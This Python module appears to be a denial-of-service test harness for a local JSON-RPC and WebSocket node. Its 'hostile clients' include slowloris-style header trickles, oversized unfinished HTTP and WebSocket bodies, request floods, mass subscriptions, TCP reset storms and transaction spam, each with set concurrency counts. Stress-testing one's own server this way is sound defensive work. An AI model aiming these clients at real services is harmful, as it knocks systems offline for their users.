"""Hostile clients that take memory, connections and turns: each is one connection of KIND. See README.md."""

import asyncio
import json
import socket
import struct

from attacker import (
    ADDRESS, DONE, LARGE, NUMBERS, SOCKET_BYTES, addresses, connect, frame, never, post, send, upgrade, write_of,
)  # fmt: skip


async def announce(port, _):
    _, writer = await connect(port)
    send(writer, f"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: {LARGE}\r\n\r\n{{".encode())
    await never(writer)


async def frames(port, _):
    _, writer = await upgrade(port)
    send(writer, frame(b"{", announced=LARGE))
    await never(writer)


async def chunks(port, _):
    _, writer = await connect(port)
    send(writer, b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
    send(writer, f"{LARGE:x}\r\n".encode() + b" " * (LARGE - 1))
    await never(writer)


async def fragments(port, _):
    _, writer = await upgrade(port)
    send(writer, frame(b" " * LARGE, first=0x01))
    await never(writer)


async def elephant(port, _):
    _, writer = await connect(port)
    while True:
        send(writer, post(write_of(60_000)))
        await writer.drain()
        await asyncio.sleep(0.01)


async def subscribers(port, _):
    _, writer = await upgrade(port)
    params = {"query": "tm.event='NewBlock'"}
    send(writer, frame(json.dumps({"jsonrpc": "2.0", "id": 1, "method": "subscribe", "params": params}).encode()))
    await never(writer)


async def questions(port, number):
    reader, writer = await upgrade(port, addresses(4)[number % 4])
    while True:
        send(writer, frame(b'{"jsonrpc":"2.0","id":1,"method":"status"}'))
        await reader.read(SOCKET_BYTES)
        await asyncio.sleep(1)


async def readers(port, number):
    _, writer = await connect(port, addresses(8)[number % 8])
    for _ in range(4):
        send(writer, post('{"jsonrpc":"2.0","id":1,"method":"block","params":{}}'))
    await never(writer)


async def headers(port, _):
    _, writer = await connect(port)
    send(writer, b"POST / HTTP/1.1\r\n")
    while True:
        send(writer, b"X-A: b\r\n")
        await writer.drain()
        await asyncio.sleep(1)


async def pipeline(port, _):
    _, writer = await connect(port)
    while True:
        send(writer, b"GET /status HTTP/1.1\r\nHost: x\r\n\r\n" * 100)
        await writer.drain()
        await asyncio.sleep(0.05)


async def resets(port, _):
    connection = socket.socket()
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    connection.setblocking(False)
    connection.bind((ADDRESS, 0))
    await asyncio.get_running_loop().sock_connect(connection, ("127.0.0.1", port))
    connection.close()
    DONE["connections"] += 1


async def pages(port, number):
    _, writer = await connect(port)
    while True:
        origin = f"Origin: https://{number}.{next(NUMBERS)}.example\r\n"
        send(writer, post(write_of(100, "broadcast_tx_sync"), origin))
        await writer.drain()
        await asyncio.sleep(0.05)

# How many of each at once.
KINDS = {
    announce: 300, frames: 300, chunks: 150, fragments: 150, elephant: 8, subscribers: 128, questions: 512,
    readers: 256, headers: 900, pipeline: 20, resets: 50, pages: 20,
}  # fmt: skip
